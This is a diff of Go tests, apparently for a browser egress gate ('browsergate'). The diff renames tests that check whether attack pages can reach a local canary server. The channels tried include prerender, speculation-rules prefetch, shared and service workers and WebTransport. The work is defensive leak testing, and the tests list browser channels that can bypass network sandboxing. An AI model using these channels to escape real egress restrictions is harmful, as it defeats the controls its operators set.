+// opener is a subframe, workers of a same-site frame on another port,
+// speculation rules one by one.
+func TestLivePagesReachNothingThroughSubframesOrSingleRules(t *testing.T) {
 	t.Parallel()
-	e := startR11(t, egressManifest)
+	e := startAttacks(t, egressManifest)
 	for _, c := range []struct {
 		page, tag string
 		click     bool
 	}{
 		// Speculation first: once a popup has opened the browser stops
-		// prefetching for the tab (TestReview11AttackSpeculation's
+		// prefetching for the tab (TestLivePagesReachNothingBySpeculation's
 		// controls).
 		{"prerender-inscope", "prerender-inscope", false},
 		{"specrules-prefetch", "specrules-prefetch-only", false},
@@ -614,27 +620,28 @@ func TestReview11AttackMore(t *testing.T) {
 		{"shw-samesite", "shw-samesite", false},
 		{"sw-samesite", "sw-samesite", false},
 	} {
-		t.Run(c.page, func(t *testing.T) { e.attack(t, c.page, c.tag, c.click, r11Grace) })
+		t.Run(c.page, func(t *testing.T) { e.attack(t, c.page, c.tag, c.click, attackGrace) })
 	}
 	e.overall(t)
 }
 
-// TestReview11AttackWebTransportNoQUIC: the same with --disable-quic (as
-// the suite's user browser runs).
-func TestReview11AttackWebTransportNoQUIC(t *testing.T) {
+// TestLivePagesReachNothingByWebTransportWithQUICOff: the same with
+// --disable-quic (as the suite's user browser runs).
+func TestLivePagesReachNothingByWebTransportWithQUICOff(t *testing.T) {
 	t.Parallel()
-	e := startR11(t, egressManifest, "--disable-quic")
-	e.attack(t, "webtransport", "webtransport", false, r11Grace)
+	e := startAttacks(t, egressManifest, "--disable-quic")
+	e.attack(t, "webtransport", "webtransport", false, attackGrace)
 	if n := e.udp.Load(); n > 0 {
 		t.Errorf("LEAK webtransport (--disable-quic): the UDP canary received %d datagram(s)", n)
 	}
 }
 
-// TestReview11AttackUserSWClaimed: the user's own service worker on an
-// in-scope origin, started during the session (the user opens the site in
-// a tab of their own), is taken for the session's: is the user's own
-// traffic then intercepted by the session's scope?
-func TestReview11AttackUserSWClaimed(t *testing.T) {
+// TestUsersServiceWorkerStartedDuringASessionIsNotHeld: the user's own
+// service worker on an in-scope origin, started during the session (the
+// user opens the site in a tab of their own), could be taken for the
+// session's; the user's own traffic through it is not held to the
+// session's scope: its fetch of the user's other site arrives.
+func TestUsersServiceWorkerStartedDuringASessionIsNotHeld(t *testing.T) {
 	t.Parallel()
 	var mu sync.Mutex
 	var seen []string
@@ -648,7 +655,7 @@ func TestReview11AttackUserSWClaimed(t *testing.T) {
 		t.Fatal(err)
 	}
 	t.Cleanup(stop)
-	e := startR11(t, egressManifest)
+	e := startAttacks(t, egressManifest)
 	e.site.user = userSite
 	// The session is on the allowed site (its origin is now a session origin).
 	e.f.mustAllow(t, "egress.navigate", map[string]any{"url": e.site.self + "/payload?tag=none"})
@@ -673,9 +680,11 @@ func TestReview11AttackUserSWClaimed(t *testing.T) {
 	t.Logf("session snapshot: %s", strings.ReplaceAll(text, "\n", " | "))
 }
 
-// TestReview11AttackControlRelay: without browsergate, does the relay
-// shared worker of a user's tab reach the canary when a second tab asks?
-func TestReview11AttackControlRelay(t *testing.T) {
+// TestRelayWorkerWithoutBrowsergate is the control of
+// TestLivePagesReachNothingThroughTheUsersWorkers: without browsergate,
+// does the relay shared worker of a user's tab reach the canary when a
+// second tab asks? It logs what the canary saw.
+func TestRelayWorkerWithoutBrowsergate(t *testing.T) {
 	t.Parallel()
 	port := startChromiumFlags(t)
 	nc, canaryURL, stop, err := demosite.ListenCanary("127.0.0.2:0")
@@ -683,14 +692,14 @@ func TestReview11AttackControlRelay(t *testing.T) {
 		t.Fatal(err)
 	}
 	defer stop()
-	s := &r11Site{canary: canaryURL, ws: "ws" + strings.TrimPrefix(canaryURL, "http")}
+	s := &attackSite{canary: canaryURL, ws: "ws" + strings.TrimPrefix(canaryURL, "http")}
 	self, stop2, err := serveOn("127.0.0.1:0", s)
 	if err != nil {
 		t.Fatal(err)
 	}
 	defer stop2()
 	s.self = self
-	e := &r11Env{site: s, port: port}
+	e := &attackEnv{site: s, port: port}
 	_, c1 := e.userTab(t, self+"/user-shw", "connected")
 	defer c1()
 	_, c2 := e.userTab(t, self+"/shw-relay-use", "fetch")
